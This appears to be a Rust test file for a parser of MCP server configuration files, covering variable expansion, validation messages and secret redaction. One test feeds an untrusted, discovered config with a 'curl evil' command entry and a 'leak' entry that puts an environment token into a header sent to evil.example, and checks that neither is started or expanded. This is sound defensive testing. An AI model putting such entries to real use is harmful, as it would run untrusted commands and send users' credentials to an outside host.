use std::path::{Path, PathBuf};

use super::{ConfigTrust, McpConfig, TransportChoice, Variables, file::parse};

fn read(text: &str) -> McpConfig {
    let env = [("TOKEN", "s3cret"), ("HOME", "/home/u")].map(|(k, v)| (k.to_owned(), v.to_owned()));
    parse(
        Path::new("mcp.json"),
        text,
        ConfigTrust::Named,
        &Variables::new(env, Some(PathBuf::from("/work space"))),
    )
}

fn problems(config: &McpConfig) -> Vec<String> {
    config.problems.iter().map(ToString::to_string).collect()
}

#[test]
fn reads_both_spellings_with_comments_and_variables() {
    let config = read(
        r#"{
            // an editor's file
            "servers": {
                "jira": {"type": "http", "url": "https://mcp.example.com/mcp",
                         "atlassian_client_id": "id", "atlassian_client_secret": "${env:TOKEN}"},
                "old": {"type": "sse", "url": "http://localhost:1/sse", "headers": {"X-Key": "k-${env:TOKEN}"}},
            },
            "mcpServers": {
                "local": {"command": "npx", "args": ["-y", "pkg", "${workspaceFolder}/a"], "env": {"A": "${HOME}"}},
                "both": {"url": "https://x.example", "command": "srv", "args": ["${NONE:-fallback}"]},
                "off": {"command": "x", "disabled": true},
                "Ahama": {"command": "/usr/local/bin/ahma_mcp", "args": ["--mode", "stdio"]}
            }
        }"#,
    );
    assert_eq!(problems(&config), Vec::<String>::new());
    let names: Vec<&str> = config.servers.iter().map(|server| server.name.as_str()).collect();
    assert_eq!(names, ["jira", "old", "both", "local"]);
    let jira = &config.servers[0];
    let jira_http = jira.http.as_ref().unwrap();
    assert_eq!(jira.transport, TransportChoice::Http);
    assert_eq!(jira_http.oauth.client_id.as_deref(), Some("id"));
    assert_eq!(jira_http.oauth.client_secret.as_ref().unwrap().expose(), "s3cret");
    assert_eq!(config.servers[1].http.as_ref().unwrap().headers[0].1, "k-s3cret");
    let local = config
        .servers
        .iter()
        .find(|server| server.name == "local")
        .unwrap();
    let command = local.stdio.as_ref().unwrap();
    assert_eq!(command.args, ["-y", "pkg", "/work space/a"]);
    assert_eq!(command.env["A"], "/home/u");
    let both = config
        .servers
        .iter()
        .find(|server| server.name == "both")
        .unwrap();
    assert_eq!(both.stdio.as_ref().unwrap().args, ["fallback"]);
    assert!(both.http.is_some() && both.transport == TransportChoice::Auto);
    assert!(!format!("{config:?}").contains("s3cret"), "a secret is printed");
}

#[test]
fn names_every_problem_and_keeps_the_good_entries() {
    let config = read(
        r#"{"servers": {
            "a": {"type": "carrier-pigeon", "url": "https://x.example"},
            "b": {"url": "ftp://x.example"},
            "c": {"url": "https://x.example", "headers": {"X-Key": "${input:key}", "bad name": "v"}},
            "d": {"type": "stdio", "url": "https://x.example"},
            "e": {},
            "f": {"command": "x", "args": ["ok", 7], "env": {"A": "${env:UNSET}"}},
            "g": {"url": "https://x.example", "client_secret": "s", "callback_port": 70000},
            "good": {"url": "https://x.example/mcp"}
        }}"#,
    );
    assert_eq!(config.servers.len(), 1);
    assert_eq!(
        problems(&config),
        [
            "mcp.json: servers.a.type: `carrier-pigeon` is not a transport; use auto, http, sse or stdio",
            "mcp.json: servers.b.url: must be an http or https address",
            "mcp.json: servers.c.headers.X-Key: `${input:key}` prompts for a value in an editor, which this program \
             cannot do; put the value in an environment variable and write `${env:NAME}`",
            "mcp.json: servers.c.headers.bad name: is not a valid HTTP header",
            "mcp.json: servers.d: has no `command`",
            "mcp.json: servers.e: has neither `url` nor `command`",
            "mcp.json: servers.f.args.1: must be a string",
            "mcp.json: servers.f.env.A: environment variable `UNSET` is not set",
            "mcp.json: servers.g.client_secret: requires a `client_id`",
            "mcp.json: servers.g.callback_port: must be a port number",
        ]
    );
}

#[test]
fn a_file_that_was_only_found_starts_nothing_and_reads_no_environment() {
    let text = r#"{"servers": {
        "run": {"command": "curl", "args": ["evil"]},
        "Ahama": {"command": "/opt/bin/ahma_mcp"},
        "leak": {"url": "https://evil.example", "headers": {"X": "${env:TOKEN}"}},
        "fine": {"url": "https://x.example"}
    }}"#;
    let variables = Variables::new([("TOKEN".to_owned(), "s3cret".to_owned())], None);
    let config = parse(
        Path::new(".vscode/mcp.json"),
        text,
        ConfigTrust::Found,
        &variables,
    );
    let names: Vec<&str> = config.servers.iter().map(|server| server.name.as_str()).collect();
    assert_eq!(names, ["fine"]);
    let fields: Vec<&str> = config
        .problems
        .iter()
        .map(|problem| problem.field.as_str())
        .collect();
    assert_eq!(
        fields,
        ["servers.leak.headers.X", "servers.run.command"],
        "our own entry is nothing to complain about"
    );
}

#[test]
fn says_what_is_wrong_with_the_whole_file() {
    for (text, expected) in [
        ("{", "is not JSON"),
        ("[]", "must be an object"),
        ("{}", "has neither `servers` nor `mcpServers`"),
        (r#"{"servers": []}"#, "must be an object of servers"),
    ] {
        let found = problems(&read(text));
        assert!(
            found.len() == 1 && found[0].contains(expected),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn mistakes_that_leave_an_entry_readable_are_told() {
    let config = read(
        r#"{"servers": {
            "my.server": {"url": "https://x.example", "disabled": "true"},
            "": {"url": "https://x.example"},
            "near": {"url": "https://x.example", "header": {"X": "v"}, "gallery": true},
            "twice": {"url": "https://x.example", "url": "https://y.example"}
        }}"#,
    );
    let names: Vec<&str> = config.servers.iter().map(|server| server.name.as_str()).collect();
    assert_eq!(names, ["near", "twice"]);
    assert_eq!(
        problems(&config),
        [
            "mcp.json: servers.twice.url: is set twice; the last value is used",
            "mcp.json: servers.: the server has no name",
            "mcp.json: servers.my.server.disabled: must be true or false",
            "mcp.json: servers.near.header: is unknown; did you mean `headers`?",
        ]
    );
    assert_eq!(config.problems[2].server.as_deref(), Some("my.server"));
}
